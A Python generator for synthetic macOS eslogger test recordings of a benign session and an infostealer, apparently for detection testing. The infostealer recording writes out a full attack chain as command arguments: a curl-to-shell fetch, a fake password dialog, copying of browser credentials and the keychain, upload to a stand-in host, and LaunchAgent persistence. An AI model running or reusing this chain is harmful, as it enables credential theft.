#!/usr/bin/env python3
"""Write the recordings of this folder: eslogger lines in their true shape (schema versions 9, 10 and 11) of a benign
session and of an infostealer, told as two stories below. Same input, same bytes.

Usage: tests/data/recordings/make.py     (rewrites *.ndjson beside itself; tests/harness/execs.py borrows Recorder)

Everything in them is invented: people, hosts, hashes, team ids, third parties; only paths and signing
identifiers of macOS itself are real.
Addresses are from the documentation ranges of RFC 5737."""
import hashlib
import json
import os
import random

HERE = os.path.dirname(os.path.abspath(__file__))
USER = "mara"
HOME = f"/Users/{USER}"
ARM64 = 16777228
PLATFORM_FLAGS = 570522385
SIGNED_FLAGS = 570503953
ADHOC_FLAGS = 570556419
SYSTEM_INODE = 1152921500312000000  # files of the sealed system volume, beyond 2^53


class Recorder:
    """Running state of one Mac: clock, numbers, processes."""

    def __init__(self, version, start, seed):
        self.version = version
        self.rng = random.Random(seed)
        self.seconds = start
        self.nanos = 100000000
        self.mach = 289350913517
        self.global_seq = 0
        self.seq = {}
        self.next_pid = 1200
        self.pidversion = 3000
        self.lines = []
        self.launchd = self.process("/sbin/launchd", None, uid=0, pid=1, signing="com.apple.xpc.launchd")

    # ---------------------------------------------------------------- values
    def tick(self, least=2000000, most=90000000):
        step = self.rng.randrange(least, most)
        self.nanos += step
        self.mach += step * 24 // 1000
        self.seconds += self.nanos // 1000000000
        self.nanos %= 1000000000

    def stamp(self, seconds=None, nanos=None):
        seconds = self.seconds if seconds is None else seconds
        nanos = self.nanos if nanos is None else nanos
        days, rest = divmod(seconds, 86400)
        year = 1970
        while True:
            length = 366 if year % 4 == 0 and (year % 100 or year % 400 == 0) else 365
            if days < length:
                break
            days -= length
            year += 1
        months = [31, 29 if length == 366 else 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31]
        month = 0
        while days >= months[month]:
            days -= months[month]
            month += 1
        return (f"{year:04d}-{month + 1:02d}-{days + 1:02d}T{rest // 3600:02d}:{rest // 60 % 60:02d}:{rest % 60:02d}"
                f".{nanos:09d}Z")

    def stat(self, path, uid=0, mode=0o100755, size=None):
        h = int.from_bytes(hashlib.sha256(path.encode()).digest()[:8], "big")
        system = path.startswith(("/usr/", "/bin/", "/sbin/", "/System/"))
        born = self.stamp(1750000000 + h % 1000000, h % 1000000000)
        return {"st_dev": 16777232, "st_ino": SYSTEM_INODE + h % 900000 if system else 1000000 + h % 80000000,
                "st_mode": mode, "st_nlink": 1, "st_uid": uid, "st_gid": 0 if uid == 0 else 20, "st_rdev": 0,
                "st_size": h % 3000000 if size is None else size, "st_blocks": h % 6000, "st_blksize": 4096,
                "st_flags": 524320 if system else 0, "st_gen": 0, "st_atimespec": born, "st_mtimespec": born,
                "st_ctimespec": born, "st_birthtimespec": born}

    def file(self, path, **kw):
        return {"path": path, "path_truncated": False, "stat": self.stat(path, **kw)}

    def token(self, p):
        values = [p["auid"], p["uid"], p["gid"], p["uid"], p["gid"], p["pid"], p["asid"], p["pidversion"]]
        if self.version == 10:
            return values
        return dict(zip(["auid", "euid", "egid", "ruid", "rgid", "pid", "asid", "pidversion"], values))

    def process(self, path, parent, uid=501, pid=None, signing=None, team=None, platform=None, adhoc=False):
        if pid is None:
            self.next_pid += self.rng.randrange(1, 4)
            pid = self.next_pid
        self.pidversion += self.rng.randrange(1, 5)
        if platform is None:
            platform = team is None and not adhoc and path.startswith(("/usr/", "/bin/", "/sbin/", "/System/"))
        if signing is None:
            signing = "com.apple." + os.path.basename(path)
        return {"path": path, "pid": pid, "pidversion": self.pidversion, "uid": uid, "gid": 0 if uid == 0 else 20,
                "auid": 4294967295 if uid == 0 else uid, "asid": 100000 if uid == 0 else 100015,
                "parent": parent, "signing": None if adhoc and not signing else signing, "team": team,
                "platform": platform, "adhoc": adhoc, "tty": parent["tty"] if parent else None,
                "responsible": None, "start": (self.seconds, self.nanos // 1000 * 1000)}

    def es_process(self, p):
        kernel = {"auid": 4294967295, "uid": 0, "gid": 0, "pid": 0, "asid": 0, "pidversion": 0}
        parent = p["parent"] or kernel
        responsible = p["responsible"] or p
        flags = PLATFORM_FLAGS if p["platform"] else ADHOC_FLAGS if p["adhoc"] else SIGNED_FLAGS
        cdhash = hashlib.sha1((p["path"] + str(p["team"])).encode()).hexdigest().upper()
        tty = None
        if p["tty"]:
            tty = {"path": p["tty"], "path_truncated": False,
                   "stat": dict(self.stat(p["tty"], uid=p["uid"], mode=0o020620, size=0), st_rdev=268435456)}
        out = {"audit_token": self.token(p), "ppid": parent["pid"] if p["parent"] else 0,
               "original_ppid": parent["pid"] if p["parent"] else 0, "group_id": p["pid"],
               "session_id": p["pid"] if p["uid"] == 0 else 1201, "codesigning_flags": flags,
               "is_platform_binary": p["platform"], "is_es_client": False, "cdhash": cdhash,
               "signing_id": p["signing"], "team_id": p["team"],
               "executable": self.file(p["path"]), "tty": tty,
               "start_time": self.stamp(*p["start"])[:-4] + "Z",
               "responsible_audit_token": self.token(responsible), "parent_audit_token": self.token(parent)}
        if self.version >= 10:
            out["cs_validation_category"] = 1 if p["platform"] else 6 if p["team"] else 10
        return out

    # ---------------------------------------------------------------- lines
    def shuffled(self, value):
        if isinstance(value, dict):
            keys = list(value)
            self.rng.shuffle(keys)
            return {k: self.shuffled(value[k]) for k in keys}
        if isinstance(value, list):
            return [self.shuffled(v) for v in value]
        return value

    def event(self, name, number, body, actor):
        self.tick()
        self.seq[name] = self.seq.get(name, -1) + 1
        line = {"schema_version": 1, "version": self.version, "time": self.stamp(), "mach_time": self.mach,
                "seq_num": self.seq[name], "global_seq_num": self.global_seq, "event_type": number, "action_type": 1,
                "action": {"result": {"result_type": 0, "result": {"auth": 0}}},
                "thread": {"thread_id": self.rng.randrange(400000, 900000)},
                "process": self.es_process(actor), "event": {name: body}}
        self.global_seq += 1
        text = json.dumps(self.shuffled(line), separators=(",", ":"), ensure_ascii=False)
        self.lines.append(text.replace("/", "\\/"))

    def fork(self, parent):
        child = self.process(parent["path"], parent, uid=parent["uid"], signing=parent["signing"],
                             team=parent["team"], platform=parent["platform"], adhoc=parent["adhoc"])
        child["responsible"] = parent["responsible"] or parent
        self.event("fork", 11, {"child": self.es_process(child)}, parent)
        return child

    def exec(self, who, path, args, env=(), cwd=HOME, script=None, **signing):
        """`who` (freshly forked) becomes the program at `path`; returns the new image."""
        target = self.process(path, who["parent"], uid=signing.pop("uid", who["uid"]), pid=who["pid"], **signing)
        target["responsible"] = who["responsible"]
        target["tty"] = who["tty"]
        body = {"target": self.es_process(target), "args": list(args),
                "env": [f"PATH=/usr/bin:/bin:/usr/sbin:/sbin", f"HOME={HOME}", f"USER={USER}", "SHELL=/bin/zsh",
                        f"TMPDIR=/var/folders/k2/{'q' * 8}_zx0r7_8l4c0000gn/T/", "LANG=en_US.UTF-8",
                        "__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0", "API_TOKEN=not-for-anybody", *env],
                "fds": [{"fd": n, "fdtype": 1 if who["tty"] else 6} for n in range(3)], "last_fd": 3,
                "cwd": self.file(cwd, uid=501, mode=0o040755), "script": self.file(script) if script else None,
                "image_cputype": ARM64, "image_cpusubtype": -2147483646 if target["platform"] else 0,
                "dyld_exec_path": path}
        if self.version >= 11:
            body["entitlements"] = {"com.apple.private.tcc.allow": ["kTCCServiceSystemPolicyAllFiles"],
                                    "com.apple.security.get-task-allow": False} if target["platform"] else {}
        self.event("exec", 9, body, who)
        return target

    def exit(self, who, status=0):
        self.event("exit", 15, {"stat": status}, who)

    def run(self, parent, path, args, status=0, **kw):
        child = self.exec(self.fork(parent), path, args, **kw)
        self.exit(child, status)
        return child

    def create(self, who, path, existing=True):
        folder, name = os.path.split(path)
        if existing:
            body = {"destination_type": 0, "destination": {"existing_file": self.file(path, uid=who["uid"])}}
        else:
            body = {"destination_type": 1, "destination": {"new_path": {
                "dir": self.file(folder, uid=who["uid"], mode=0o040755), "filename": name, "mode": 0o644}}}
        self.event("create", 13, body, who)

    def rename(self, who, source, target):
        folder, name = os.path.split(target)
        self.event("rename", 25, {"source": self.file(source, uid=who["uid"], mode=0o100644), "destination_type": 1,
                                  "destination": {"new_path": {"dir": self.file(folder, uid=who["uid"],
                                                                                mode=0o040755), "filename": name}}},
                   who)

    def close(self, who, path):
        self.event("close", 12, {"modified": True, "target": self.file(path, uid=who["uid"], mode=0o100644),
                                 "was_mapped_writable": False}, who)

    def open(self, who, path, flags=1):
        self.event("open", 10, {"fflag": flags, "file": self.file(path, uid=501, mode=0o100600)}, who)

    def copyfile(self, who, source, target):
        folder, name = os.path.split(target)
        self.event("copyfile", 110, {"source": self.file(source, uid=501, mode=0o100600), "target_file": None,
                                     "target_dir": self.file(folder, uid=501, mode=0o040755), "target_name": name,
                                     "mode": 0o600, "flags": 0}, who)

    def clone(self, who, source, target):
        folder, name = os.path.split(target)
        self.event("clone", 61, {"source": self.file(source, uid=501, mode=0o100600),
                                 "target_dir": self.file(folder, uid=501, mode=0o040755), "target_name": name}, who)

    def unlink(self, who, path):
        self.event("unlink", 32, {"target": self.file(path, uid=501, mode=0o100644),
                                  "parent_dir": self.file(os.path.dirname(path), uid=501, mode=0o040755)}, who)

    def launch_item(self, who, app, kind, url, program, legacy, uid=501, app_url=""):
        body = {"instigator": self.es_process(who), "app": self.es_process(app) if app else None,
                "item": {"item_type": kind, "legacy": legacy, "managed": False, "uid": uid, "item_url": url,
                         "app_url": app_url}, "executable_path": program,
                "instigator_token": self.token(who), "app_token": self.token(app) if app else None}
        self.event("btm_launch_item_add", 124, body, who)

    def write(self, name):
        with open(os.path.join(HERE, name), "w", encoding="utf-8") as out:
            out.write("\n".join(self.lines) + "\n")


def desktop(r):
    """What runs on every Mac: window server's login, Finder, Terminal with a shell."""
    terminal = r.process("/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", r.launchd,
                         signing="com.apple.Terminal", platform=True)
    login = r.process("/usr/bin/login", terminal, uid=0, signing="com.apple.login")
    login["tty"] = "/dev/ttys003"
    login["responsible"] = terminal
    shell = r.process("/bin/zsh", login, signing="com.apple.zsh")
    shell["tty"] = "/dev/ttys003"
    shell["responsible"] = terminal
    return terminal, shell


def daemon(r, path, signing, uid=0):
    return r.process(path, r.launchd, uid=uid, signing=signing, platform=True)


def benign(version, start, seed, name):
    r = Recorder(version, start, seed)
    terminal, shell = desktop(r)
    loginwindow = daemon(r, "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow",
                         "com.apple.loginwindow")
    r.event("authentication", 111, {"success": True, "type": 1, "data": {"touchid": {
        "instigator": r.es_process(loginwindow), "touchid_mode": 0, "uid": 501,
        "instigator_token": r.token(loginwindow)}}}, daemon(r, "/usr/libexec/biometrickitd", "com.apple.biometrickitd"))
    r.event("lw_session_unlock", 117, {"username": USER, "graphical_session_id": 257}, loginwindow)
    # launchd starts a Spotlight worker, as it does all day
    proxy = r.exec(r.fork(r.launchd), "/usr/libexec/xpcproxy", ["xpcproxy", "com.apple.mdworker.shared.0C000000"],
                   cwd="/", uid=501, signing="com.apple.xpc.proxy")
    worker = r.exec(proxy, "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/"
                    "Support/mdworker_shared", ["/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata."
                    "framework/Versions/A/Support/mdworker_shared", "-s", "mdworker", "-c", "MDSImporterWorker"],
                    cwd="/", signing="com.apple.mdworker_shared")
    r.exit(worker)
    # a developer works
    git = r.exec(r.fork(shell), "/usr/bin/git", ["git", "status", "--short"], cwd=f"{HOME}/src/orchard",
                 signing="com.apple.git")
    r.exit(git)
    node = r.exec(r.fork(shell), "/opt/homebrew/bin/node", ["node", "/opt/homebrew/bin/npm", "ci"],
                  cwd=f"{HOME}/src/orchard", signing="node", adhoc=True)
    sh = r.exec(r.fork(node), "/bin/sh", ["sh", "-c", "node-gyp-build || echo \"no build\" > /dev/null"],
                cwd=f"{HOME}/src/orchard/node_modules/x", env=["npm_lifecycle_event=install"], signing="com.apple.sh")
    r.exit(sh)
    r.create(node, f"{HOME}/src/orchard/node_modules/.package-lock.json")
    r.close(node, f"{HOME}/src/orchard/node_modules/.package-lock.json")
    r.exit(node)
    r.run(shell, "/usr/bin/curl", ["curl", "-sS", "https://api.example.com/v1/health"], signing="com.apple.curl")
    # an editor saves the safe way
    editor = r.process("/Applications/Quillpad.app/Contents/MacOS/Quillpad", r.launchd, signing="com.example.quillpad",
                       team="Q7XK2M9PLT")
    r.create(editor, f"{HOME}/Documents/.notes.txt.sb-4b7f2c10")
    r.close(editor, f"{HOME}/Documents/.notes.txt.sb-4b7f2c10")
    r.rename(editor, f"{HOME}/Documents/.notes.txt.sb-4b7f2c10", f"{HOME}/Documents/notes.txt")
    # a browser downloads a disk image and marks it
    safari = r.process("/System/Cryptexes/App/System/Applications/Safari.app/Contents/MacOS/Safari", r.launchd,
                       signing="com.apple.Safari", platform=True)
    r.create(safari, f"{HOME}/Downloads/Überblick 2025 – Café.dmg")
    r.event("setextattr", 27, {"target": r.file(f"{HOME}/Downloads/Überblick 2025 – Café.dmg", uid=501),
                               "extattr": "com.apple.quarantine"}, safari)
    mounter = daemon(r, "/System/Library/PrivateFrameworks/DiskImages2.framework/XPCServices/diskimagescontroller.xpc/"
                     "Contents/MacOS/diskimagescontroller", "com.apple.diskimagescontroller")
    r.event("mount", 22, {"statfs": {"f_bsize": 4096, "f_iosize": 1048576, "f_blocks": 25600, "f_bfree": 1024,
                                     "f_bavail": 1024, "f_files": 1000, "f_ffree": 900, "f_fsid": [16777248, 26],
                                     "f_owner": 501, "f_type": 26, "f_flags": 77633049, "f_fssubtype": 0,
                                     "f_fstypename": "apfs", "f_mntonname": "/Volumes/Überblick",
                                     "f_mntfromname": "/dev/disk9s1", "f_flags_ext": 0}, "disposition": 3}, mounter)
    # an app registers its helper
    chat = r.process("/Applications/Treefrog.app/Contents/MacOS/Treefrog", r.launchd, signing="com.example.treefrog",
                      team="T4C8W2R6FG")
    btm = daemon(r, "/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/"
                 "backgroundtaskmanagementd", "com.apple.backgroundtaskmanagementd")
    r.launch_item(btm, chat, 2, "file:///Applications/Treefrog.app/Contents/Library/LoginItems/TreefrogHelper.app/",
                  "Contents/MacOS/TreefrogHelper", False, app_url="file:///Applications/Treefrog.app/")
    # administration
    sudo = r.exec(r.fork(shell), "/usr/bin/sudo", ["sudo", "softwareupdate", "--list"], signing="com.apple.sudo", uid=0)
    r.event("sudo", 131, {"success": True, "reject_info": None, "from_uid": 501, "from_username": USER, "to_uid": 0,
                          "to_username": "root", "command": "/usr/sbin/softwareupdate"}, sudo)
    r.event("setuid", 103, {"uid": 0}, sudo)
    update = r.exec(r.fork(sudo), "/usr/sbin/softwareupdate", ["softwareupdate", "--list"], uid=0,
                    signing="com.apple.softwareupdate")
    r.exit(update)
    r.exit(sudo)
    mdm = daemon(r, "/usr/libexec/mdmclient", "com.apple.mdmclient")
    r.event("profile_add", 126, {"instigator": r.es_process(mdm), "is_update": True, "profile": {
        "identifier": "com.example.wifi", "uuid": "7A0D1B52-8F6B-4B5E-9C44-0C5C5B8A9D11", "install_source": 0,
        "organization": "Example Orchard", "display_name": "Office Wi-Fi", "scope": "system"},
        "instigator_token": r.token(mdm)}, mdm)
    sshd = daemon(r, "/usr/libexec/sshd-session", "com.apple.sshd-session")
    r.event("openssh_login", 120, {"success": True, "result_type": 0, "source_address_type": 1,
                                   "source_address": "192.0.2.17", "username": USER, "has_uid": True, "uid": 501}, sshd)
    r.event("signal", 31, {"sig": 15, "target": r.es_process(editor), "instigator": r.es_process(shell)}, shell)
    r.exit(editor, 15)
    r.event("lw_session_lock", 116, {"username": USER, "graphical_session_id": 257}, loginwindow)
    r.write(name)


def infostealer(version, start, seed, name):
    """A pasted one-liner, a password dialog, browser and keychain copies, an archive, an upload, persistence."""
    r = Recorder(version, start, seed)
    terminal, shell = desktop(r)
    stage = f"/private/tmp/.{seed:08x}"
    chrome = f"{HOME}/Library/Application Support/Google/Chrome/Default"
    firefox = f"{HOME}/Library/Application Support/Firefox/Profiles/8x1k2m3n.default-release"
    curl = r.exec(r.fork(shell), "/usr/bin/curl", ["curl", "-kfsSL", "http://203.0.113.66/verify/u.sh"],
                  signing="com.apple.curl")
    sh = r.exec(r.fork(shell), "/bin/sh", ["sh"], signing="com.apple.sh")
    r.exit(curl)
    bash = r.exec(sh, "/bin/bash", ["sh"], signing="com.apple.bash", env=["HISTFILE=/dev/null"])
    r.run(bash, "/usr/sbin/system_profiler", ["system_profiler", "SPSoftwareDataType", "SPHardwareDataType",
                                              "SPDisplaysDataType"], signing="com.apple.SystemProfiler")
    r.run(bash, "/usr/bin/osascript", ["osascript", "-e", "display dialog \"macOS needs your password to verify that "
          "you are human.\" & return & \"Enter it for user mara.\" default answer \"\" with icon caution buttons "
          "{\"Continue\"} default button \"Continue\" giving up after 150 with title \"System Preferences\" "
          "with hidden answer"], signing="com.apple.osascript")
    r.run(bash, "/usr/bin/dscl", ["dscl", "/Local/Default", "-authonly", USER, "correct horse"],
          signing="com.apple.dscl")
    r.run(bash, "/bin/mkdir", ["mkdir", "-p", stage], signing="com.apple.mkdir")
    for source, label in [(f"{chrome}/Cookies", "Cookies"), (f"{chrome}/Login Data", "Login Data"),
                          (f"{firefox}/key4.db", "key4.db"), (f"{firefox}/cookies.sqlite", "cookies.sqlite")]:
        cp = r.exec(r.fork(bash), "/bin/cp", ["cp", source, f"{stage}/{label}"], signing="com.apple.cp")
        r.open(cp, source)
        r.clone(cp, source, f"{stage}/{label}")
        r.exit(cp)
    keychain = f"{HOME}/Library/Keychains/login.keychain-db"
    cat = r.exec(r.fork(bash), "/bin/cat", ["cat", keychain], signing="com.apple.cat")
    r.open(cat, keychain)
    r.exit(cat)
    r.create(bash, f"{stage}/kc")
    r.close(bash, f"{stage}/kc")
    ditto = r.exec(r.fork(bash), "/usr/bin/ditto", ["ditto", "-c", "-k", "--sequesterRsrc", stage, "/tmp/out.zip"],
                   signing="com.apple.ditto")
    r.create(ditto, "/private/tmp/out.zip")
    r.close(ditto, "/private/tmp/out.zip")
    r.exit(ditto)
    r.run(bash, "/usr/bin/curl", ["curl", "-s", "-X", "POST", "-H", "user: mara", "-H", "BuildID: 7f3a",
                                  "-F", "file=@/tmp/out.zip", "http://203.0.113.66/contact"], signing="com.apple.curl")
    # the second stage stays
    agent = f"{HOME}/Library/.com.apple.metadata/updater"
    r.run(bash, "/usr/bin/curl", ["curl", "-s", "-o", agent, "http://203.0.113.66/bin/updater"],
          signing="com.apple.curl")
    r.event("deleteextattr", 70, {"target": r.file(agent, uid=501), "extattr": "com.apple.quarantine"},
            r.exec(r.fork(bash), "/usr/bin/xattr", ["xattr", "-d", "com.apple.quarantine", agent],
                   signing="com.apple.xattr"))
    chmod = r.exec(r.fork(bash), "/bin/chmod", ["chmod", "755", agent], signing="com.apple.chmod")
    r.event("setmode", 29, {"mode": 0o755, "target": r.file(agent, uid=501, mode=0o100644)}, chmod)
    r.exit(chmod)
    plist = f"{HOME}/Library/LaunchAgents/com.apple.softwareupdate.helper.plist"
    r.create(bash, plist)
    r.close(bash, plist)
    r.run(bash, "/bin/launchctl", ["launchctl", "bootstrap", "gui/501", plist], signing="com.apple.xpc.launchctl")
    btm = daemon(r, "/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/"
                 "backgroundtaskmanagementd", "com.apple.backgroundtaskmanagementd")
    r.launch_item(btm, None, 3, "file://" + plist, agent, True)
    updater = r.exec(r.fork(r.launchd), agent, [agent, "--hidden"], cwd="/", uid=501, adhoc=True,
                     signing="updater-5555494422cb3e8e0a4c3d2b9e4f1d0c9a8b7c6d")
    r.event("tcc_modify", 147, {"service": "kTCCServiceSystemPolicyAllFiles", "identity": agent, "identity_type": 1,
                                "update_type": 1, "instigator_token": r.token(updater),
                                "instigator": r.es_process(updater), "responsible_token": None, "responsible": None,
                                "right": 2, "reason": 3},
            daemon(r, "/System/Library/PrivateFrameworks/TCC.framework/Support/tccd", "com.apple.tccd"))
    r.unlink(bash, "/private/tmp/out.zip")
    r.run(bash, "/bin/rm", ["rm", "-rf", stage], signing="com.apple.rm")
    killall = r.exec(r.fork(bash), "/usr/bin/killall", ["killall", "Terminal"], signing="com.apple.killall")
    r.event("signal", 31, {"sig": 15, "target": r.es_process(terminal), "instigator": r.es_process(killall)}, killall)
    r.exit(killall)
    r.exit(bash)
    r.write(name)


if __name__ == "__main__":
    benign(9, 1754572895, 11, "benign-macos15-v9.ndjson")
    benign(10, 1763000000, 12, "benign-macos26-v10.ndjson")
    infostealer(10, 1763010000, 22, "infostealer-macos26-v10.ndjson")
    infostealer(11, 1790010000, 23, "infostealer-macos27-v11.ndjson")
